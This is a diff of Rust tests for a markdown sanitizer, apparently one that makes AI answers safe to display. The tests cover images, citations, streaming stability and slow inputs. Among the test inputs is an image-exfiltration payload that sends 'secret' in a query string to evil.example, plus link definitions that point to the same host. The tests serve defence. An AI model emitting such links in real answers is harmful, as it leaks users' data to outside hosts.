@@ -136,7 +136,9 @@ fn a10_nothing_in_an_answer_is_fetched_or_run() {
     shown(
         "![x](https://evil.example/p.png?d=secret) and ![y][r]\n\n[r]: https://evil.example/r.png\n",
         expect![[r#"
-            (image: x) and (image: y)
+            (image: x) and !\[y\]\[r\]
+
+            \[r\]: <https://evil.example/r.png>
         "#]],
     );
     shown(
@@ -223,8 +225,10 @@ fn a41_citations_lead_to_sources_and_inventions_are_marked() {
     shown(
         "As [S2] says.\n\n[S2]: https://evil.example\n",
         expect![[r#"
-        As [src/cache.rs:10-13](file:///w/src/cache.rs#L10) says.
-    "#]],
+            As [src/cache.rs:10-13](file:///w/src/cache.rs#L10) says.
+
+            [src/cache.rs:10-13](file:///w/src/cache.rs#L10): <https://evil.example>
+        "#]],
     );
     // In a list or a table as well.
     shown(
@@ -367,6 +371,27 @@ fn a_growing_answer_only_grows() {
 }
 
 #[test]
+fn a_definition_at_the_end_changes_nothing_above_it() {
+    let text = "See [the docs] and [S2].\n\n```\n[code]: x\n```\n\n[the docs]: https://docs.example/a\n> [S2]: https://evil.example\n";
+    shown(
+        text,
+        expect![[r#"
+        See \[the docs\] and [src/cache.rs:10-13](file:///w/src/cache.rs#L10).
+
+        ```
+        [code]: x
+        ```
+
+        \[the docs\]: <https://docs.example/a>
+
+        > [src/cache.rs:10-13](file:///w/src/cache.rs#L10): <https://evil.example>
+    "#]],
+    );
+    let part = answer(&text[..markdown::finished(text)]).markdown;
+    assert!(answer(text).markdown.starts_with(&part));
+}
+
+#[test]
 fn deep_and_long_texts_are_bounded() {
     let deep = ">".repeat(100_000) + " x";
     assert!(answer(&deep).markdown.len() < 1_000);
@@ -380,14 +405,6 @@ fn deep_and_long_texts_are_bounded() {
 /// Texts made to be slow: a look at them ends, and none of them takes longer than its length deserves.
 #[test]
 fn a25_hostile_answers_are_read_in_one_go() {
-    let sections = sections();
-    let sources = Sources {
-        sections: &sections,
-        link: &link,
-        line_exists: &|_, _| false,
-        name_exists: &|_| false,
-        strict: false,
-    };
     for part in [
         "https://a.example/b ",
         "[S2] ",
@@ -416,8 +433,20 @@ fn a25_hostile_answers_are_read_in_one_go() {
         "a@b.de ",
     ] {
         let text = part.repeat(100_000 / part.len());
-        assert!(markdown::safe(&text, &sources).markdown.len() < 60 * text.len());
+        assert!(safe(&text).len() < 60 * text.len());
     }
+}
+
+fn safe(text: &str) -> String {
+    let sections = sections();
+    let sources = Sources {
+        sections: &sections,
+        link: &link,
+        line_exists: &|_, _| false,
+        name_exists: &|_| false,
+        strict: false,
+    };
+    markdown::safe(text, &sources).markdown
 }
 
 proptest! {
@@ -425,16 +454,8 @@ proptest! {
     /// changes nothing.
     #[test]
     fn always_harmless_and_stable(text in "(\\[S2\\]|\\[|\\]|\\(|\\)|!|`|``|\\*|\\*\\*|_|<b>|<!--|&lt;|&#42;|&|\\\\|\\||\n|\n\n|- |1\\. |> |# |    |\t|```\n|---|=|https://x.example/a|www.|:|\\[a\\]\\(https://y.example\\)|\\[a\\]\\(file:x\\)|!\\[i\\]\\(u\\)|src/a.rs:3|[a-z ]{1,3}|é|  \n){0,25}") {
-        let sections = sections();
-        let sources = Sources {
-            sections: &sections,
-            link: &link,
-            line_exists: &|_, _| false,
-            name_exists: &|_| false,
-            strict: false,
-        };
-        let once = markdown::safe(&text, &sources).markdown;
-        let twice = markdown::safe(&once, &sources).markdown;
+        let once = safe(&text);
+        let twice = safe(&once);
         prop_assert_eq!(&twice, &once, "from {:?}", text);
         prop_assert!(!once.starts_with("```\n") || text.contains("```") || text.contains("    ") || text.contains('\t'), "gave up on {text:?}");
         let options = pulldown_cmark::Options::ENABLE_TABLES;
@@ -450,5 +471,13 @@ proptest! {
                 _ => (),
             }
         }
+    }
+
+    /// What was shown of a growing answer stays as it is when more of it comes.
+    #[test]
+    fn finished_blocks_stay(text in "(\\[S2\\]|\\[|\\]|\\(|!|`|\\*|\\*\\*|_|<b>|\\||\n|\n\n|- |1\\. |  |> |# |\n```\n|\n~~~\n|https://x.example/a|:|\\[a\\]: u|\\[a\\]\\(https://y.example\\)|[a-z ]{1,3}){0,25}") {
+        let whole = safe(&text);
+        let part = safe(&text[..markdown::finished(&text)]);
+        prop_assert!(whole.starts_with(&part), "{:?} of {:?}", part, whole);
     }
 }
